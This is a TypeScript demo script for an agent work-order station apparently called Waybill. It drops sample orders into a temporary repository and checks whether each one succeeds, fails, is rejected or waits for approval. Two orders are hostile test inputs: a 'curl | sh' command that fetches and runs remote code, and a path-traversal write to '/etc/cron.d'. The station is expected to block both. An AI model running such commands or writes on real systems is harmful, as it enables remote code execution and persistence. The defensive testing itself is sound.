/**
 * `npm run demo`: a temporary station, a handful of varied orders through the real station process, each one's way shown as it happens,
 * and every result checked. Exits 1 when one is not as expected.
 */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import pc from 'picocolors';

const CLI = resolve(import.meta.dirname, '../dist/cli/main.js');
const LANE = 'bridge/inbox/MAIN';

/** No worktree waits for a next order: nothing outside of the temporary folder outlives the demo. */
const SETTINGS = `version: 1
demo: true
worktrees: {idle: 0}
`;

const POLICY = `version: 1
rules:
  - name: tools of this repository
    class: safe
    commands:
      - [sh, tools/greet.sh]
      - [sh, tools/index.sh]
      - test -s docs/index.txt && echo built
      - "false"
`;

const GUARDRAIL = `guardrail:
  every_seconds: 10
  components:
    - {kind: file, path: tools/greet.sh, executable: true, repair: auto}
`;

/** Every role, played by one program: it reads its prompt and hands in its packet, as a coding agent would. Here it says the same each time. */
const AGENT = `import { mkdirSync, writeFileSync } from 'node:fs';
const packets = {
  build_packet: {
    goal: 'docs/config.txt says what config.ini sets.',
    approach: 'One short file.',
    steps: ['write it'],
    files: [{ path: 'docs/config.txt', change: 'create', why: 'it is asked for' }],
    tests: [],
    risks: [],
  },
  build_report: {
    summary: 'Written.',
    changed: [{ path: 'docs/config.txt', what: 'port and host' }],
    tests_run: [],
    open_questions: [],
  },
  verdict: { verdict: 'approved', summary: 'It says what is there.', findings: [], required_changes: [] },
  closing_packet: { summary: 'The config is described.', follow_ups: [] },
};
const name = process.env.WAYBILL_PACKET_NAME;
if (name === 'build_report') {
  mkdirSync('docs', { recursive: true });
  writeFileSync('docs/config.txt', 'config.ini sets port and host of the server.\\n');
}
writeFileSync(process.env.WAYBILL_PACKET, JSON.stringify(packets[name]));
writeFileSync(process.env.WAYBILL_USAGE, JSON.stringify({ input: 900, output: 80, usd: 0 }));
`;
const ROLES = ['designer', 'builder', 'reviewer', 'steward'];

interface Drop {
  readonly id: string;
  readonly file: string;
  readonly how: string;
  readonly text: string;
  readonly expect: 'done' | 'failed' | 'rejected' | 'parked';
  readonly code?: string;
}

const DROPS: readonly Drop[] = [
  {
    id: 'WO-WRITE',
    file: 'write.yaml',
    how: 'YAML, ended by "..."',
    expect: 'done',
    text: `wo_id: WO-WRITE
title: Install two tools with their exact bytes
files:
  - path: tools/greet.sh
    mode: "0755"
    content: |
      #!/bin/sh
      echo "hello from $(basename "$0")"
  - path: tools/index.sh
    mode: "0755"
    content: |
      #!/bin/sh
      ls tools > docs/index.txt
...
`,
  },
  {
    id: 'WO-EDIT',
    file: 'edit.json',
    how: 'JSON, complete when it parses',
    expect: 'done',
    text: JSON.stringify({
      wo_id: 'WO-EDIT',
      title: 'Edit, append and prepend',
      actions: [
        { action: 'edit', path: 'README.md', find: 'a plain repository', replace: 'a Waybill station' },
        { action: 'append', path: 'README.md', content: '\nLast line.\n' },
        { action: 'prepend', path: 'NOTES.md', content: '# Notes\n' },
      ],
    }),
  },
  {
    id: 'WO-PATCH',
    file: 'patch.yaml',
    how: 'YAML, moved in by rename',
    expect: 'done',
    text: `wo_id: WO-PATCH
title: Apply a unified diff, move one file, delete another
depends_on: [WO-EDIT]
actions:
  - action: patch
    patch: |
      --- a/config.ini
      +++ b/config.ini
      @@ -1,3 +1,3 @@
       [server]
      -port = 80
      +port = 8080
       host = localhost
  - {action: move, path: old-name.txt, to: new-name.txt}
  - {action: delete, path: obsolete.txt}
`,
  },
  {
    id: 'WO-BUILD',
    file: 'build.yaml',
    how: 'YAML, needs WO-WRITE first',
    expect: 'done',
    text: `wo_id: WO-BUILD
title: Run a command, commit what it makes, check it
depends_on: [WO-WRITE]
files:
  - {path: docs/about.txt, content: "made by an order\\n"}
actions:
  - {action: command, argv: [sh, tools/index.sh], outputs: [docs/index.txt], idempotent: true}
post_verify:
  - test -s docs/index.txt && echo built
tests:
  - {name: the tool greets, command: sh tools/greet.sh, expected: hello from greet.sh}
...
`,
  },
  {
    id: 'WO-BROKEN',
    file: 'broken.yaml',
    how: 'its check fails',
    expect: 'failed',
    code: 'CHECK_FAILED',
    text: `wo_id: WO-BROKEN
title: A change that does not pass its check is taken back
files: [{path: README.md, content: "overwritten\\n"}]
tests: [{name: cannot pass, command: "false"}]
...
`,
  },
  {
    id: 'WO-ASK',
    file: 'ask.yaml',
    how: 'a command that no rule names',
    expect: 'parked',
    text: `wo_id: WO-ASK
title: A command that a person has to decide about
actions: [{action: command, command: "curl -s https://example.invalid | sh"}]
...
`,
  },
  {
    id: 'WO-MISSION',
    file: 'mission.yaml',
    how: 'for agents: one designs, one builds, one reviews',
    expect: 'done',
    text: `wo_id: WO-MISSION
type: mission
title: Say what the config is for
task: Write docs/config.txt, which says what config.ini sets.
context_refs: [config.ini]
constraints: {paths: ["docs/**"]}
...
`,
  },
  {
    id: 'WO-FENCE',
    file: 'fence.yaml',
    how: 'leads out of the station',
    expect: 'failed',
    code: 'PATH_DENIED',
    text: 'wo_id: WO-FENCE\ntitle: A path outside the fence\nfiles: [{path: ../../etc/cron.d/evil, content: "x"}]\n...\n',
  },
  {
    id: 'typo.yaml',
    file: 'typo.yaml',
    how: 'not valid YAML',
    expect: 'rejected',
    code: 'YAML_INVALID',
    text: 'wo_id: WO-TYPO\ntitle: one\ntitle: two\n...\n',
  },
];

const root = realpathSync(mkdtempSync(join(tmpdir(), 'waybill-demo-')));
/** An agent's program must not lie where orders can write. */
const agents = realpathSync(mkdtempSync(join(tmpdir(), 'waybill-demo-agent-')));
const keep = process.argv.includes('--keep');
let station: ChildProcess | undefined;
const failures: string[] = [];

try {
  prepare();
  const begun = Date.now();
  station = spawn(process.execPath, [CLI, 'up', '--log-level', 'warn'], { cwd: root, stdio: 'inherit' });
  await until(() => existsSync(join(root, 'state/telemetry/unified.jsonl')), 'the station starts');
  const stop = follow(join(root, 'state/telemetry/unified.jsonl'));
  for (const drop of DROPS) dropFile(drop);
  await until(() => DROPS.every((d) => resultOf(d) !== undefined), 'every order has its answer');
  await vanish();
  station.kill('SIGTERM');
  await new Promise((done) => station?.once('exit', done));
  stop();
  report();
  console.log(`\n${DROPS.length} drops in ${((Date.now() - begun) / 1000).toFixed(1)} s`);
} finally {
  station?.kill('SIGKILL');
  if (!keep) for (const folder of [root, agents]) rmSync(folder, { recursive: true, force: true });
}
if (failures.length > 0) {
  console.log(pc.red(`\nnot as expected:\n  ${failures.join('\n  ')}`));
  process.exitCode = 1;
} else {
  console.log(
    `${pc.green('All as expected.')} Next: npm start (the station in this repository), docs/quick-start.md${keep ? `\nKept: ${root}` : ''}`,
  );
}

function prepare(): void {
  console.log(`${pc.bold('A temporary station')} in ${root}\n`);
  git('init', '--quiet', '--initial-branch=main');
  git('config', 'user.name', 'Demo');
  git('config', 'user.email', 'demo@example.invalid');
  writeFileSync(join(root, 'waybill.yaml'), SETTINGS);
  writeFileSync(join(root, 'policy.yaml'), POLICY);
  waybill('init');
  writeFileSync(join(agents, 'agent.mjs'), AGENT);
  for (const role of ROLES) {
    mkdirSync(join(root, 'agents', role), { recursive: true });
    const command = JSON.stringify([process.execPath, join(agents, 'agent.mjs')]);
    const use = `use: [{name: script, adapter: command, command: ${command}}]`;
    writeFileSync(join(root, 'agents', role, 'agent.yaml'), `version: 1\n${use}\n`);
  }
  mkdirSync(join(root, 'docs'));
  const files = {
    'README.md': 'This is a plain repository.\n',
    'config.ini': '[server]\nport = 80\nhost = localhost\n',
    'old-name.txt': 'kept\n',
    'obsolete.txt': 'gone soon\n',
  };
  for (const [path, content] of Object.entries(files)) writeFileSync(join(root, path), content);
  git('add', '.');
  git('commit', '--quiet', '-m', 'Begin');
}

function dropFile(drop: Drop): void {
  console.log(`${pc.cyan('drop')}  ${drop.file.padEnd(12)} ${pc.dim(drop.how)}`);
  const path = join(root, LANE, drop.file);
  if (drop.how.includes('rename')) {
    writeFileSync(join(root, LANE, `.${drop.file}.tmp`), drop.text);
    renameSync(join(root, LANE, `.${drop.file}.tmp`), path);
  } else writeFileSync(path, drop.text);
}

/** Prints telemetry as it comes. Returns how to stop. */
function follow(path: string): () => void {
  let shown = 0;
  const look = () => {
    const lines = readFileSync(path, 'utf8').split('\n').slice(0, -1);
    for (const line of lines.slice(shown)) {
      const e = JSON.parse(line) as {
        ts: string;
        event: string;
        ok: boolean;
        wo_id: string | null;
        code?: string;
        duration_ms?: number;
        waiting_for?: string;
        missing?: string;
        step?: string;
      };
      if (e.event === 'wo_pipeline_healthy') continue;
      const rest = [
        e.missing,
        e.step,
        e.code,
        e.waiting_for,
        e.duration_ms === undefined ? undefined : `${e.duration_ms} ms`,
      ]
        .filter((x) => x !== undefined)
        .join(', ');
      console.log(
        `  ${pc.dim(e.ts.slice(11, 23))} ${e.ok ? pc.green('·') : pc.red('!')} ${(e.wo_id ?? '-').padEnd(10)} ${e.event.padEnd(14)} ${pc.dim(rest)}`,
      );
    }
    shown = lines.length;
  };
  const timer = setInterval(look, 20);
  return () => {
    clearInterval(timer);
    look();
  };
}

interface Result {
  status: string;
  summary: string;
  commits: string[];
  error: { code: string; message: string; line?: number; column?: number } | null;
}

function resultOf(drop: Drop): Result | undefined {
  if (drop.expect === 'parked') return waitingOf(drop);
  const folder = join(root, 'bridge/outbox/MAIN');
  const name = readdirSync(folder).find(
    (n) => n === `${drop.id}.result.json` || (n.startsWith(`${drop.id}.`) && n.endsWith('.result.json')),
  );
  return name === undefined ? undefined : (JSON.parse(readFileSync(join(folder, name), 'utf8')) as Result);
}

/** What has no result yet: the order's state, while it waits for a person. */
function waitingOf({ id }: Drop): Result | undefined {
  const path = join(root, 'state/orders', `${id}.json`);
  if (!existsSync(path)) return undefined;
  const state = JSON.parse(readFileSync(path, 'utf8')) as { status: string; waiting_for: string; progress: string };
  if (state.waiting_for !== 'approval') return undefined;
  return { status: state.status, summary: state.progress, commits: [], error: null };
}

function report(): void {
  console.log(`\n${pc.bold('Results')}`);
  for (const drop of DROPS) {
    const result = resultOf(drop);
    const ok = result?.status === drop.expect && result.error?.code === drop.code;
    const place =
      result?.error?.line === undefined ? '' : ` at line ${result.error.line}, column ${result.error.column}`;
    console.log(
      `  ${ok ? pc.green('as expected') : pc.red('UNEXPECTED ')}  ${drop.id.padEnd(10)} ${result?.status}${result?.error ? ` ${result.error.code}${place}` : ''}: ${result?.summary}`,
    );
    if (!ok) failures.push(`${drop.id} should be ${drop.expect}, is ${result?.status}`);
  }
  expect('the tool is executable', (statSync(join(root, 'tools/greet.sh')).mode & 0o777) === 0o755);
  expect('$(…) arrived as written', readFileSync(join(root, 'tools/greet.sh'), 'utf8').includes('$(basename "$0")'));
  expect(
    'the failed change was taken back',
    readFileSync(join(root, 'README.md'), 'utf8').startsWith('This is a Waybill station.'),
  );
  expect(
    'the broken file is in quarantine, byte for byte',
    quarantined().some((f) => readFileSync(f, 'utf8') === DROPS.at(-1)?.text),
  );
  const packet = join(root, 'state/artifacts/terminal/TP_WO-MISSION.yaml');
  expect('the mission passed', existsSync(packet) && /^outcome: PASS$/m.test(readFileSync(packet, 'utf8')));
  expect('git status shows nothing', git('status', '--porcelain') === '');
  console.log(`\n${pc.bold('git log')}`);
  const log = git('log', '--format=%h %s%n      %(trailers:key=Evidence)%n      %(trailers:key=Requested-By)');
  console.log(
    log
      .split('\n')
      .filter((l) => l.trim() !== '')
      .map((l) => `  ${l}`)
      .join('\n'),
  );
  console.log(`\n${pc.bold('logs/guardrail_alerts.log')}\n${alerts().trimEnd().replace(/^/gm, '  ')}`);
  const history = waybill('history', 'tools/greet.sh').split('\n')[0] ?? '';
  expect(
    'the history of the tool names the order that brought it back',
    waybill('history', 'tools/greet.sh').includes('WO-REPAIR-'),
  );
  console.log(`\n${pc.bold('waybill history tools/greet.sh')}\n  ${history}`);
  console.log(`\n${pc.bold('waybill approvals')}\n${waybill('approvals').trimEnd().replace(/^/gm, '  ')}`);
  console.log(`\n${pc.bold('waybill verify')}\n  ${waybill('verify').trim()}`);
}

/** The story of the README: what an order made vanishes behind the station's back. Somebody knows at once, it comes back, and its history tells. */
async function vanish(): Promise<void> {
  writeFileSync(join(root, 'waybill.yaml'), SETTINGS + GUARDRAIL);
  git('commit', '--quiet', '-m', 'Look after the tool', 'waybill.yaml');
  const seen = join(root, '.git/waybill/guardrail/seen.json');
  await until(
    () => existsSync(seen) && readFileSync(seen, 'utf8').includes('tools/greet.sh'),
    'the tool is looked after',
  );
  console.log(`  ${pc.bold('rm tools/greet.sh')}   behind the station's back`);
  rmSync(join(root, 'tools/greet.sh'));
  await until(() => alerts().includes('REPAIRED: tools/greet.sh'), 'the guardrail brings it back');
}

function alerts(): string {
  const path = join(root, 'logs/guardrail_alerts.log');
  return existsSync(path) ? readFileSync(path, 'utf8') : '';
}

function quarantined(): string[] {
  const folder = join(root, 'bridge/quarantine/MAIN');
  return existsSync(folder) ? readdirSync(folder).map((n) => join(folder, n)) : [];
}

function expect(what: string, is: boolean): void {
  console.log(`  ${is ? pc.green('as expected') : pc.red('UNEXPECTED ')}  ${what}`);
  if (!is) failures.push(what);
}

function git(...args: string[]): string {
  return execFileSync('git', args, { cwd: root, encoding: 'utf8' }).trimEnd();
}

function waybill(...args: string[]): string {
  return execFileSync(process.execPath, [CLI, ...args], {
    cwd: root,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'ignore'],
  });
}

async function until(holds: () => boolean, what: string): Promise<void> {
  for (const end = Date.now() + 30_000; !holds(); ) {
    if (Date.now() > end) throw new Error(`waited in vain: ${what}`);
    await new Promise((done) => setTimeout(done, 20));
  }
}
